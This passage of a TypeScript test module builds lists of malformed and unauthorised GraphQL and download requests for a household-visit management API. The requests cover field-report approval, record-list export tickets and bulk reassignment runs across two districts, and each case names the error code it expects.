    'a report with a NUL in the note',
    report('cadre', (t) => phone(t, { note: '注\u0000释' })),
    'input.note',
  );
  bad(
    'a report with a right-to-left override in the note',
    report('cadre', (t) => phone(t, { note: '注\u202e释' })),
    'input.note',
  );

  // Deciding and withdrawing.
  const decide =
    (as: IntakeIdentity, query: string, input: (t: FieldReportTargets) => Record<string, unknown>) =>
    (t: FieldReportTargets): IntakeRequest => ({
      as,
      query,
      variables: { input: input(t) },
    });
  const approvePending = (t: FieldReportTargets, extra: Record<string, unknown> = {}) => ({
    reportId: t.fieldReports.pendingId,
    expectedVersion: t.ownHouseholdVersion,
    ...extra,
  });
  for (const [name, query, input] of [
    ['withdrawFieldReport', WITHDRAW, (id: string) => ({ reportId: id })],
    ['approveFieldReport', APPROVE, (id: string) => ({ reportId: id, expectedVersion: 1 })],
    ['rejectFieldReport', REJECT, (id: string) => ({ reportId: id, reason: '经核实不属实' })],
  ] as const) {
    const as: IntakeIdentity = name === 'withdrawFieldReport' ? 'cadre' : 'admin';
    for (const [label, id] of BAD_IDS)
      bad(
        `${name} with a ${label} reportId`,
        decide(as, query, () => input(id)),
        'input.reportId',
      );
    add({
      category: 'field report: missing object',
      name: `${name} of a report that does not exist`,
      request: decide(as, query, () => input('987654321')),
      code: 'FORBIDDEN',
    });
    add({
      category: 'field report: state',
      name: `${name} of a report already rejected`,
      request: decide(as, query, (t) => input(t.fieldReports.decidedId)),
      code: 'CONFLICT',
    });
  }
  add({
    category: 'field report: who',
    name: "withdrawFieldReport of another cadre's report",
    request: decide('otherCadre', WITHDRAW, (t) => ({ reportId: t.fieldReports.pendingId })),
    code: 'FORBIDDEN',
  });
  for (const [as, code] of [
    ['cadre', 'FORBIDDEN'],
    ['analyst', 'FORBIDDEN'],
    ['none', 'UNAUTHENTICATED'],
  ] as const) {
    add({ category: 'field report: who', name: `approveFieldReport as ${as}`, request: decide(as, APPROVE, (t) => approvePending(t)), code });
    add({
      category: 'field report: who',
      name: `rejectFieldReport as ${as}`,
      request: decide(as, REJECT, (t) => ({ reportId: t.fieldReports.pendingId, reason: '经核实不属实' })),
      code,
    });
  }
  bad(
    'approveFieldReport without expectedVersion',
    decide('admin', APPROVE, (t) => ({ reportId: t.fieldReports.pendingId })),
    'input.expectedVersion',
  );
  bad(
    'approveFieldReport with expectedVersion 0',
    decide('admin', APPROVE, (t) => approvePending(t, { expectedVersion: 0 })),
    'input.expectedVersion',
  );
  bad(
    'approveFieldReport with expectedVersion "1"',
    decide('admin', APPROVE, (t) => approvePending(t, { expectedVersion: '1' })),
    'input.expectedVersion',
    400,
  );
  add({
    category: 'field report: state',
    name: 'approveFieldReport at a stale household version',
    request: decide('admin', APPROVE, (t) => approvePending(t, { expectedVersion: t.ownHouseholdVersion + 50 })),
    code: 'CONFLICT',
  });
  bad(
    'approveFieldReport editing a value the kind does not have (name of a phone report)',
    decide('admin', APPROVE, (t) => approvePending(t, { edits: { name: '改名' } })),
    'input.edits.name',
  );
  bad(
    'approveFieldReport editing the phone to "abc"',
    decide('admin', APPROVE, (t) => approvePending(t, { edits: { phone: 'abc' } })),
    'input.edits.phone',
  );
  bad(
    'approveFieldReport with a 501-character note',
    decide('admin', APPROVE, (t) => approvePending(t, { note: '注'.repeat(501) })),
    'input.note',
  );
  for (const [label, reason] of [
    ['an empty reason', ''],
    ['a reason of spaces', '    '],
    ['a one-character reason', '否'],
    ['a 501-character reason', '因'.repeat(501)],
    ['a NUL in the reason', '不属\u0000实'],
  ] as const) {
    bad(
      `rejectFieldReport with ${label}`,
      decide('admin', REJECT, (t) => ({ reportId: t.fieldReports.pendingId, reason })),
      'input.reason',
    );
  }

  // Reading.
  const read =
    (as: IntakeIdentity, query: string, variables: (t: FieldReportTargets) => Record<string, unknown> = () => ({})) =>
    (t: FieldReportTargets): IntakeRequest => ({
      as,
      query,
      variables: variables(t),
    });
  for (const [label, id] of BAD_IDS)
    bad(
      `fieldReport(id) with a ${label} id`,
      read('admin', 'query ($id: ID!) { fieldReport(id: $id) { id } }', () => ({ id })),
      'id',
    );
  add({
    category: 'field report: missing object',
    name: 'fieldReport(id) that does not exist',
    request: read('admin', 'query { fieldReport(id: "987654321") { id } }'),
    code: 'FORBIDDEN',
  });
  add({
    category: 'field report: who',
    name: "fieldReport(id) of another cadre's report",
    request: read('otherCadre', 'query ($id: ID!) { fieldReport(id: $id) { id proposal { phone } } }', (t) => ({ id: t.fieldReports.pendingId })),
    code: 'FORBIDDEN',
  });
  add({
    category: 'field report: who',
    name: 'fieldReport(id) as the analyst',
    request: read('analyst', 'query ($id: ID!) { fieldReport(id: $id) { id } }', (t) => ({ id: t.fieldReports.pendingId })),
    code: 'FORBIDDEN',
  });
  for (const [as, code] of [
    ['analyst', 'FORBIDDEN'],
    ['cadre', 'FORBIDDEN'],
    ['none', 'UNAUTHENTICATED'],
  ] as const) {
    add({ category: 'field report: who', name: `fieldReports (the inbox) as ${as}`, request: read(as, '{ fieldReports(first: 5) { totalCount } }'), code });
  }
  add({
    category: 'field report: who',
    name: 'myFieldReports as an administrator',
    request: read('admin', '{ myFieldReports(first: 5) { totalCount } }'),
    code: 'FORBIDDEN',
  });
  add({
    category: 'field report: scope',
    name: 'fieldReports filtered on 溪湖区 as the 平山区 administrator',
    request: read('pingshanAdmin', 'query ($r: ID) { fieldReports(filter: {regionId: $r}) { totalCount } }', (t) => ({ r: t.xihuRegionId })),
    code: 'FORBIDDEN',
  });
  bad('fieldReports filtered on a region of letters', read('admin', '{ fieldReports(filter: {regionId: "abc"}) { totalCount } }'), 'filter.regionId');
  for (const first of [0, -5, 101]) {
    bad(
      `fieldReports first ${first}`,
      read('admin', 'query ($first: Int) { fieldReports(first: $first) { totalCount } }', () => ({ first })),
      'first',
    );
    bad(
      `myFieldReports first ${first}`,
      read('cadre', 'query ($first: Int) { myFieldReports(first: $first) { totalCount } }', () => ({ first })),
      'first',
    );
  }
  for (const [label, cursor] of BAD_CURSORS) {
    bad(
      `fieldReports after ${label}`,
      read('admin', 'query ($after: String) { fieldReports(first: 2, after: $after) { totalCount } }', () => ({ after: cursor })),
      'after',
    );
    bad(
      `myFieldReports after ${label}`,
      read('cadre', 'query ($after: String) { myFieldReports(first: 2, after: $after) { totalCount } }', () => ({ after: cursor })),
      'after',
    );
  }
  return cases;
}

/** The cadre's two reports the cases aim at, made through the API. */
export async function discoverFieldReportFixtures(probe: IntakeProbe, ownHouseholdId: string): Promise<FieldReportFixtures> {
  const made = async (as: IntakeIdentity, query: string, input: Record<string, unknown>) => {
    const answer = await probe.graphql<Record<string, { id: string }>>(as, query, { input });
    if (answer.errors?.length || !answer.data) throw new Error(`set-up field report failed: ${JSON.stringify(answer.errors)}`);
    return Object.values(answer.data)[0]!.id;
  };
  const pendingClientId = reportClientId();
  const pendingId = await made('cadre', REPORT, { clientId: pendingClientId, kind: 'PHONE_CHANGED', householdId: ownHouseholdId, phone: '13904145555' });
  const decidedId = await made('cadre', REPORT, {
    clientId: reportClientId(),
    kind: 'HOUSEHOLD_MOVED',
    householdId: ownHouseholdId,
    address: '语料已驳回的新址',
  });
  await made('admin', REJECT, { reportId: decidedId, reason: '语料准备：经核实未搬迁' });
  return { pendingId, pendingClientId, decidedId };
}

// --- record lists (issue 16): the export's link and the download ------------------------------------

/** A download link of the city administrator's, made before the corpus runs (exportRecordList). */
export interface RecordListFixtures {
  /** `/exports/records/OVERDUE_VISITS.xlsx?ticket=…`: the path and query of the link, without the origin. */
  overdueVisitsLink: string;
  ticket: string;
}

export interface RecordListTargets {
  xihuRegionId: string;
  pingshanRegionId: string;
  recordLists: RecordListFixtures;
  /** The city administrator's checked import (the district administrator reaches none of it); null without the intake fixtures. */
  cityImportId: string | null;
}

export interface RecordListCase {
  category: string;
  name: string;
  request: (targets: RecordListTargets) => IntakeRequest;
  code: 'BAD_USER_INPUT' | 'UNAUTHENTICATED' | 'FORBIDDEN' | 'GRAPHQL_VALIDATION_FAILED';
  status?: number;
  field?: string;
}

const EXPORT_LIST = 'mutation ($input: ExportRecordListInput!) { exportRecordList(input: $input) { url } }';

export function recordListCorpus(): RecordListCase[] {
  const cases: RecordListCase[] = [];
  const add = (entry: RecordListCase) => cases.push(entry);
  const exporting =
    (as: IntakeIdentity, input: (t: RecordListTargets) => Record<string, unknown>) =>
    (t: RecordListTargets): IntakeRequest => ({ as, query: EXPORT_LIST, variables: { input: { format: 'XLSX', ...input(t) } } });
  const bad = (name: string, request: RecordListCase['request'], field: string, status?: number) =>
    add({ category: 'record list: input', name, request, code: 'BAD_USER_INPUT', field, ...(status ? { status } : {}) });

  add({
    category: 'record list: input',
    name: 'exportRecordList of list NOPE in the document',
    request: () => ({ as: 'admin', query: 'mutation { exportRecordList(input: {list: NOPE, format: XLSX}) { url } }' }),
    code: 'GRAPHQL_VALIDATION_FAILED',
    field: 'input.list',
  });
  bad(
    'exportRecordList of list "overdue_visits" (lower case) in variables',
    exporting('admin', () => ({ list: 'overdue_visits' })),
    'input.list',
    400,
  );
  bad(
    'exportRecordList in format PDF',
    exporting('admin', () => ({ list: 'OVERDUE_VISITS', format: 'PDF' })),
    'input.format',
    400,
  );
  bad(
    'exportRecordList of target group NOPE',
    exporting('admin', () => ({ list: 'COVERAGE_GAPS', targetGroup: 'NOPE' })),
    'input.targetGroup',
    400,
  );
  // Each list needs and takes its own filters.
  bad(
    'CADRE_CASELOAD without a cadre',
    exporting('admin', () => ({ list: 'CADRE_CASELOAD' })),
    'input.cadreId',
  );
  bad(
    'UNIT_CASELOAD without a unit',
    exporting('admin', () => ({ list: 'UNIT_CASELOAD' })),
    'input.unitId',
  );
  bad(
    'IMPORT_PROBLEMS without an import',
    exporting('admin', () => ({ list: 'IMPORT_PROBLEMS' })),
    'input.importId',
  );
  bad(
    'COVERAGE_GAPS filtered on a unit (a filter it does not take)',
    exporting('admin', () => ({ list: 'COVERAGE_GAPS', unitId: '1' })),
    'input.unitId',
  );
  bad(
    'OVERDUE_VISITS filtered on an import',
    exporting('admin', () => ({ list: 'OVERDUE_VISITS', importId: '1' })),
    'input.importId',
  );
  bad(
    'IMPORT_PROBLEMS filtered on a region',
    exporting('admin', () => ({ list: 'IMPORT_PROBLEMS', importId: '1', regionId: '1' })),
    'input.regionId',
  );
  for (const [label, id] of BAD_IDS.filter(([label]) => label !== 'empty')) {
    bad(
      `OVERDUE_VISITS with a ${label} regionId`,
      exporting('admin', () => ({ list: 'OVERDUE_VISITS', regionId: id })),
      'input.regionId',
    );
    bad(
      `CADRE_CASELOAD with a ${label} cadreId`,
      exporting('admin', () => ({ list: 'CADRE_CASELOAD', cadreId: id })),
      'input.cadreId',
    );
    bad(
      `IMPORT_PROBLEMS with a ${label} importId`,
      exporting('admin', () => ({ list: 'IMPORT_PROBLEMS', importId: id })),
      'input.importId',
    );
  }
  bad(
    'CADRE_CASELOAD of a cadre that does not exist',
    exporting('admin', () => ({ list: 'CADRE_CASELOAD', cadreId: '987654321' })),
    'input.cadreId',
  );
  bad(
    'UNIT_CASELOAD of a unit that does not exist',
    exporting('admin', () => ({ list: 'UNIT_CASELOAD', unitId: '987654321' })),
    'input.unitId',
  );
  bad(
    'OVERDUE_VISITS of a round that does not exist',
    exporting('admin', () => ({ list: 'OVERDUE_VISITS', roundId: '987654321' })),
    'input.roundId',
  );
  // Scope and roles.
  add({
    category: 'record list: scope',
    name: 'OVERDUE_VISITS of 溪湖区 as the 平山区 administrator',
    request: exporting('pingshanAdmin', (t) => ({ list: 'OVERDUE_VISITS', regionId: t.xihuRegionId })),
    code: 'FORBIDDEN',
  });
  add({
    category: 'record list: scope',
    name: 'COVERAGE_GAPS of a region that does not exist (answered as one out of reach)',
    request: exporting('admin', () => ({ list: 'COVERAGE_GAPS', regionId: '987654321' })),
    code: 'FORBIDDEN',
  });
  add({
    category: 'intake: record list',
    name: 'IMPORT_PROBLEMS of an import that does not exist',
    request: exporting('pingshanAdmin', () => ({ list: 'IMPORT_PROBLEMS', importId: '987654321' })),
    code: 'FORBIDDEN',
  });
  add({
    // 'intake: …': the city administrator's import is made with the imports' fixtures.
    category: 'intake: record list',
    name: "IMPORT_PROBLEMS of the city administrator's import as the district administrator",
    request: exporting('pingshanAdmin', (t) => ({ list: 'IMPORT_PROBLEMS', importId: t.cityImportId })),
    code: 'FORBIDDEN',
  });
  add({
    category: 'record list: who',
    name: 'IMPORT_PROBLEMS as the analyst',
    request: exporting('analyst', () => ({ list: 'IMPORT_PROBLEMS', importId: '1' })),
    code: 'FORBIDDEN',
  });
  add({
    category: 'record list: who',
    name: 'exportRecordList as a cadre',
    request: exporting('cadre', () => ({ list: 'OVERDUE_VISITS' })),
    code: 'FORBIDDEN',
  });
  add({
    category: 'record list: who',
    name: 'exportRecordList without signing in',
    request: exporting('none', () => ({ list: 'OVERDUE_VISITS' })),
    code: 'UNAUTHENTICATED',
  });

  // The download: its ticket names the caller, the list, the format and exactly its filters.
  const download =
    (as: IntakeIdentity, path: (t: RecordListTargets) => string) =>
    (t: RecordListTargets): IntakeRequest => ({ as, method: 'GET', path: path(t) });
  const ticketOnly = (t: RecordListTargets) => `ticket=${encodeURIComponent(t.recordLists.ticket)}`;
  const ticketCase = (
    name: string,
    as: IntakeIdentity,
    path: (t: RecordListTargets) => string,
    code: RecordListCase['code'],
    status: number,
    field = 'ticket',
  ) => add({ category: 'record list: download', name, request: download(as, path), code, status, field });
  ticketCase('a download without a ticket', 'admin', () => '/exports/records/OVERDUE_VISITS.xlsx', 'UNAUTHENTICATED', 401);
  ticketCase('a download with a made-up ticket', 'admin', () => '/exports/records/OVERDUE_VISITS.xlsx?ticket=abc.def.ghi', 'UNAUTHENTICATED', 401);
  ticketCase(
    'a download whose ticket is an access token',
    'admin',
    () => '/exports/records/OVERDUE_VISITS.xlsx?ticket=eyJhbGciOiJIUzI1NiJ9.e30.x',
    'UNAUTHENTICATED',
    401,
  );
  ticketCase('a ticket of OVERDUE_VISITS for COVERAGE_GAPS', 'admin', (t) => `/exports/records/COVERAGE_GAPS.xlsx?${ticketOnly(t)}`, 'FORBIDDEN', 403);
  ticketCase('an .xlsx ticket for the .csv', 'admin', (t) => `/exports/records/OVERDUE_VISITS.csv?${ticketOnly(t)}`, 'FORBIDDEN', 403);
  ticketCase(
    'a ticket with a filter added to the link',
    'admin',
    (t) => `/exports/records/OVERDUE_VISITS.xlsx?regionId=${t.xihuRegionId}&${ticketOnly(t)}`,
    'FORBIDDEN',
    403,
  );
  ticketCase("the city administrator's link opened by the district administrator", 'pingshanAdmin', (t) => t.recordLists.overdueVisitsLink, 'FORBIDDEN', 403);
  ticketCase("the city administrator's link opened by the analyst", 'analyst', (t) => t.recordLists.overdueVisitsLink, 'FORBIDDEN', 403);
  ticketCase("the city administrator's link opened by a cadre", 'cadre', (t) => t.recordLists.overdueVisitsLink, 'FORBIDDEN', 403);
  ticketCase("the city administrator's link opened without signing in", 'none', (t) => t.recordLists.overdueVisitsLink, 'UNAUTHENTICATED', 401, '');
  ticketCase('a link with its ticket given twice', 'admin', (t) => `${t.recordLists.overdueVisitsLink}&${ticketOnly(t)}`, 'BAD_USER_INPUT', 400);
  ticketCase(
    'a link with the region given twice',
    'admin',
    (t) => `/exports/records/OVERDUE_VISITS.xlsx?regionId=1&regionId=2&${ticketOnly(t)}`,
    'BAD_USER_INPUT',
    400,
    'regionId',
  );
  ticketCase(
    'a link with a unitId of letters',
    'admin',
    (t) => `/exports/records/OVERDUE_VISITS.xlsx?unitId=abc&${ticketOnly(t)}`,
    'BAD_USER_INPUT',
    400,
    'unitId',
  );
  ticketCase('a link of list NOPE', 'admin', (t) => `/exports/records/NOPE.xlsx?${ticketOnly(t)}`, 'BAD_USER_INPUT', 400, 'list');
  ticketCase('a link of a lower-case list', 'admin', (t) => `/exports/records/overdue_visits.xlsx?${ticketOnly(t)}`, 'BAD_USER_INPUT', 400, 'list');
  return cases;
}

/** The city administrator's link to OVERDUE_VISITS.xlsx (the export is audited: made before the corpus's first snapshot). */
export async function discoverRecordListFixtures(probe: IntakeProbe): Promise<RecordListFixtures> {
  const answer = await probe.graphql<{ exportRecordList: { url: string } }>('admin', EXPORT_LIST, { input: { list: 'OVERDUE_VISITS', format: 'XLSX' } });
  if (!answer.data) throw new Error(`set-up exportRecordList failed: ${JSON.stringify(answer.errors)}`);
  const url = new URL(answer.data.exportRecordList.url);
  return { overdueVisitsLink: `${url.pathname}${url.search}`, ticket: url.searchParams.get('ticket')! };
}

// --- bulk runs (issue 16): a new round's carry-over and a bulk reassignment ------------------------
// The cases are helper "bulk"'s draft (/work/briefs/bulk-bad-input-corpus.ts, each checked by
// server/test/bulk-runs.test.ts over HTTP), with the scope cases on a planned run of the city's.

export interface BulkRunTargets {
  /** The round running today (the corpus's fixtures.roundId). */
  roundId: string;
  pingshan: { regionId: string; householdId: string; cadreId: string; unitId: string };
  xihu: { regionId: string; householdId: string; cadreId: string; unitId: string };
  /** A reassignment the city's administrator planned in 溪湖区 (PLANNED: it has written nothing). */
  cityRunId: string;
  /** A round starting after the current one (a rollover's valid target). */
  nextRoundId: string;
  /** A cadre of a unit of 溪湖区 (not a city unit working there, which a district may name). */
  xihuUnitCadreId: string;
}

export interface BulkRunCase {
  category: string;
  name: string;
  request: (targets: BulkRunTargets) => IntakeRequest;
  code: 'BAD_USER_INPUT' | 'FORBIDDEN' | 'GRAPHQL_VALIDATION_FAILED' | 'UNAUTHENTICATED';
  status?: number;
  field?: string;
}

const ROLLOVER = 'mutation ($input: PlanRoundRolloverInput!) { planRoundRollover(input: $input) { id } }';
const REASSIGN = 'mutation ($input: PlanBulkReassignmentInput!) { planBulkReassignment(input: $input) { id } }';
const START_RUN = 'mutation ($input: BulkRunIdInput!) { startBulkRun(input: $input) { id } }';
const CANCEL_RUN = 'mutation ($input: BulkRunIdInput!) { cancelBulkRun(input: $input) { id } }';

export function bulkRunCorpus(): BulkRunCase[] {
  const cases: BulkRunCase[] = [];
  const rollover =
    (as: IntakeIdentity, input: (t: BulkRunTargets) => Record<string, unknown>) =>
    (t: BulkRunTargets): IntakeRequest => ({
      as,
      query: ROLLOVER,
      variables: { input: { fromRoundId: t.roundId, toRoundId: t.roundId, carry: 'BOTH', ...input(t) } },
    });
  const reassign =
    (as: IntakeIdentity, input: (t: BulkRunTargets) => Record<string, unknown>) =>
    (t: BulkRunTargets): IntakeRequest => ({ as, query: REASSIGN, variables: { input: { reason: '语料批量调整', ...input(t) } } });
  const bad = (name: string, request: BulkRunCase['request'], field: string, status?: number) =>
    cases.push({ category: 'bulk run: input', name, request, code: 'BAD_USER_INPUT', field, ...(status ? { status } : {}) });
  const refused = (name: string, request: BulkRunCase['request']) => cases.push({ category: 'bulk run: scope', name, request, code: 'FORBIDDEN' });

  // Rollover.
  bad(
    'planRoundRollover into the round it carries from',
    rollover('admin', () => ({})),
    'input.toRoundId',
  );
  bad(
    'planRoundRollover from a round id "abc"',
    rollover('admin', () => ({ fromRoundId: 'abc' })),
    'input.fromRoundId',
  );
  bad(
    'planRoundRollover from a round that does not exist',
    rollover('admin', () => ({ fromRoundId: '987654321' })),
    'input.fromRoundId',
  );
  bad(
    'planRoundRollover into a round that does not exist',
    rollover('admin', (t) => ({ fromRoundId: t.roundId, toRoundId: '987654321' })),
    'input.toRoundId',
  );
  bad(
    'planRoundRollover of a target group with carry PAIRINGS',
    rollover('admin', () => ({ toRoundId: '987654321', carry: 'PAIRINGS', targetGroup: 'HARDSHIP' })),
    'input.targetGroup',
  );
  bad(
    'planRoundRollover carrying "both" (lower case) in variables',
    rollover('admin', () => ({ carry: 'both' })),
    'input.carry',
    400,
  );
  bad(
    'planRoundRollover of target group NOPE in variables',
    rollover('admin', () => ({ targetGroup: 'NOPE' })),
    'input.targetGroup',
    400,
  );
  cases.push({
    category: 'bulk run: input',
    name: 'planRoundRollover carrying NOPE in the document',
    request: (t) => ({
      as: 'admin',
      query: `mutation { planRoundRollover(input: {fromRoundId: "${t.roundId}", toRoundId: "${t.roundId}", carry: NOPE}) { id } }`,
    }),
    code: 'GRAPHQL_VALIDATION_FAILED',
  });
  refused(
    "planRoundRollover of 溪湖区 by 平山区's administrator",
    rollover('pingshanAdmin', (t) => ({ regionId: t.xihu.regionId })),
  );
  refused(
    "planRoundRollover narrowed to 溪湖区's unit by 平山区's administrator",
    rollover('pingshanAdmin', (t) => ({ toRoundId: t.nextRoundId, unitId: t.xihu.unitId })),
  );
  refused(
    'planRoundRollover by an analyst',
    rollover('analyst', () => ({})),
  );
  refused(
    'planRoundRollover by a cadre',
    rollover('cadre', () => ({})),
  );

  // Reassignment.
  bad(
    'planBulkReassignment naming no households',
    reassign('admin', (t) => ({ toCadreIds: [t.pingshan.cadreId] })),
    'input.fromCadreId',
  );
  bad(
    'planBulkReassignment naming households two ways',
    reassign('admin', (t) => ({ fromCadreId: t.pingshan.cadreId, fromUnitId: t.pingshan.unitId, toCadreIds: [t.pingshan.cadreId] })),
    'input.fromCadreId',
  );
  bad(
    'planBulkReassignment naming no receiving cadre',
    reassign('admin', (t) => ({ fromCadreId: t.pingshan.cadreId })),
    'input.toCadreIds',
  );
  bad(
    'planBulkReassignment of household id "abc"',
    reassign('admin', (t) => ({ householdIds: ['abc'], toCadreIds: [t.pingshan.cadreId] })),
    'input.householdIds.0',
  );
  bad(
    'planBulkReassignment to cadre id "-1"',
    reassign('admin', (t) => ({ fromCadreId: t.pingshan.cadreId, toCadreIds: ['-1'] })),
    'input.toCadreIds.0',
  );
  bad(
    'planBulkReassignment of 5,001 households',
    reassign('admin', (t) => ({ householdIds: Array.from({ length: 5001 }, (_, index) => String(index + 1)), toCadreIds: [t.pingshan.cadreId] })),
    'input.householdIds',
  );
  bad(
    'planBulkReassignment to the same cadre listed twice',
    reassign('admin', (t) => ({ fromUnitId: t.pingshan.unitId, toCadreIds: [t.pingshan.cadreId, t.pingshan.cadreId] })),
    'input.toCadreIds',
  );
  bad(
    'planBulkReassignment with moves and toCadreIds',
    reassign('admin', (t) => ({ moves: [{ householdId: t.pingshan.householdId, toCadreId: t.pingshan.cadreId }], toCadreIds: [t.pingshan.cadreId] })),
    'input.moves',
  );
  bad(
    'planBulkReassignment moving one household twice',
    reassign('admin', (t) => ({
      moves: [
        { householdId: t.pingshan.householdId, toCadreId: t.pingshan.cadreId },
        { householdId: t.pingshan.householdId, toCadreId: t.pingshan.cadreId },
      ],
    })),
    'input.moves.1.householdId',
  );
  for (const [label, reason] of [
    ['blank', '   '],
    ['one character', '退'],
    ['256 characters', '调'.repeat(256)],
    ['with a NUL', '工作\u0000调整'],
  ] as const) {
    bad(
      `planBulkReassignment with a reason ${label}`,
      reassign('admin', (t) => ({ fromCadreId: t.pingshan.cadreId, toCadreIds: [t.pingshan.cadreId], reason })),
      'input.reason',
    );
  }
  refused(
    "planBulkReassignment of a 溪湖区 household by 平山区's administrator",
    reassign('pingshanAdmin', (t) => ({ householdIds: [t.xihu.householdId], toCadreIds: [t.pingshan.cadreId] })),
  );
  refused(
    "planBulkReassignment to a 溪湖区 cadre by 平山区's administrator",
    reassign('pingshanAdmin', (t) => ({ householdIds: [t.pingshan.householdId], toCadreIds: [t.xihuUnitCadreId] })),
  );
  refused(
    "planBulkReassignment of 溪湖区's unit by 平山区's administrator",
    reassign('pingshanAdmin', (t) => ({ fromUnitId: t.xihu.unitId, toCadreIds: [t.pingshan.cadreId] })),
  );
  refused(
    'planBulkReassignment by an analyst',
    reassign('analyst', (t) => ({ fromCadreId: t.pingshan.cadreId, toCadreIds: [t.pingshan.cadreId] })),
  );

  // Start, cancel, read.
  for (const [name, query] of [
    ['startBulkRun', START_RUN],
    ['cancelBulkRun', CANCEL_RUN],
  ] as const) {
    bad(`${name} of run id "x"`, () => ({ as: 'admin', query, variables: { input: { runId: 'x' } } }), 'input.runId');
    refused(`${name} of a run that does not exist`, () => ({ as: 'admin', query, variables: { input: { runId: '987654321' } } }));
    refused(`${name} by a cadre`, () => ({ as: 'cadre', query, variables: { input: { runId: '1' } } }));
  }
  bad('bulkRun of id "1.5"', () => ({ as: 'admin', query: 'query { bulkRun(id: "1.5") { id } }' }), 'id');
  refused('bulkRun that does not exist', () => ({ as: 'admin', query: 'query { bulkRun(id: "987654321") { id } }' }));
  bad('bulkRuns of 101 a page', () => ({ as: 'admin', query: 'query { bulkRuns(first: 101) { totalCount } }' }), 'first');
  bad('bulkRuns after a forged cursor', () => ({ as: 'admin', query: 'query { bulkRuns(first: 2, after: "WyJhIl0") { totalCount } }' }), 'after');
  cases.push({
    category: 'bulk run: input',
    name: 'bulkRuns in state NOPE in the document',
    request: () => ({ as: 'admin', query: 'query { bulkRuns(first: 2, filter: {state: NOPE}) { totalCount } }' }),
    code: 'GRAPHQL_VALIDATION_FAILED',
  });
  refused('bulkRuns by an analyst', () => ({ as: 'analyst', query: 'query { bulkRuns(first: 2) { totalCount } }' }));
  // A planned run of the city's, out of the district administrator's reach; pages of its items.
  refused("bulkRun of the city's planned run by 平山区's administrator", (t) => ({
    as: 'pingshanAdmin',
    query: 'query ($id: ID!) { bulkRun(id: $id) { id } }',
    variables: { id: t.cityRunId },
  }));
  refused("startBulkRun of the city's planned run by 平山区's administrator", (t) => ({
    as: 'pingshanAdmin',
    query: START_RUN,
    variables: { input: { runId: t.cityRunId } },
  }));
  refused("cancelBulkRun of the city's planned run by 平山区's administrator", (t) => ({
    as: 'pingshanAdmin',
    query: CANCEL_RUN,
    variables: { input: { runId: t.cityRunId } },
  }));
  refused('bulkRun by an analyst', (t) => ({ as: 'analyst', query: 'query ($id: ID!) { bulkRun(id: $id) { id } }', variables: { id: t.cityRunId } }));
  cases.push({
    category: 'bulk run: scope',
    name: 'bulkRuns without signing in',
    request: () => ({ as: 'none', query: '{ bulkRuns(first: 2) { totalCount } }' }),
    code: 'UNAUTHENTICATED',
  });
  for (const first of [0, -1, 101]) {
    bad(
      `BulkRun.items first ${first}`,
      (t) => ({
        as: 'admin',
        query: 'query ($id: ID!, $first: Int) { bulkRun(id: $id) { items(first: $first) { totalCount } } }',
        variables: { id: t.cityRunId, first },
      }),
      'first',
    );
  }
  for (const [label, cursor] of BAD_CURSORS) {
    bad(
      `BulkRun.items after ${label}`,
      (t) => ({
        as: 'admin',
        query: 'query ($id: ID!, $after: String) { bulkRun(id: $id) { items(first: 2, after: $after) { totalCount } } }',
        variables: { id: t.cityRunId, after: cursor },
      }),
      'after',
    );
  }
  return cases;
}

/** A reassignment planned by the city's administrator (a dry run: only the run's own tables are written, before the corpus's first snapshot). */
export async function discoverBulkRunFixtures(
  probe: IntakeProbe,
  xihu: { householdId: string; cadreId: string; unitId: string },
): Promise<{ cityRunId: string; nextRoundId: string; xihuUnitCadreId: string }> {
  const made = async <T>(query: string, variables: Record<string, unknown>): Promise<T> => {
    const answer = await probe.graphql<T>('admin', query, variables);
    if (!answer.data) throw new Error(`set-up for the bulk runs failed: ${query}\n${JSON.stringify(answer.errors)}`);
    return answer.data;
  };
  const planned = await made<{ planBulkReassignment: { id: string } }>(
    'mutation ($input: PlanBulkReassignmentInput!) { planBulkReassignment(input: $input) { id } }',
    { input: { householdIds: [xihu.householdId], toCadreIds: [xihu.cadreId], reason: '语料准备：批量调整' } },
  );
  const current = await made<{ currentRound: { endsOn: string } }>('{ currentRound { endsOn } }', {});
  const after = (day: string, days: number) => new Date(Date.parse(`${day}T00:00:00Z`) + days * 86_400_000).toISOString().slice(0, 10);
  const next = await made<{ createRound: { id: string } }>('mutation ($input: CreateRoundInput!) { createRound(input: $input) { id } }', {
    input: { name: `语料下一轮${process.pid % 1000}`, startsOn: after(current.currentRound.endsOn, 1), endsOn: after(current.currentRound.endsOn, 366) },
  });
  const cadre = await made<{ createCadre: { id: string } }>('mutation ($input: CreateCadreInput!) { createCadre(input: $input) { id } }', {
    input: { name: '语料溪湖干部', post: '科员', rank: 'STAFF', unitId: xihu.unitId },
  });
  return { cityRunId: planned.planBulkReassignment.id, nextRoundId: next.createRound.id, xihuUnitCadreId: cadre.createCadre.id };
}
